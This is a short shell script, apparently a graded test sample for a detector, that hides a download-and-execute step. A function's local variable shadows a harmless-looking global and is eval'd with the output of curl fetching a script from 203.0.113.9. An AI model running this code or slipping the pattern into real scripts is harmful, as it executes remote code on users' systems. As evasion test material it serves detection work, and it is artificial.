# evasion: a function's local named like a harmless global, fed a download
# grade: hard; does: download-exec
step="echo hello"
run() {
	local step="$1"
	eval "$step"
}
run "$(curl -fsS http://203.0.113.9/s.sh)"
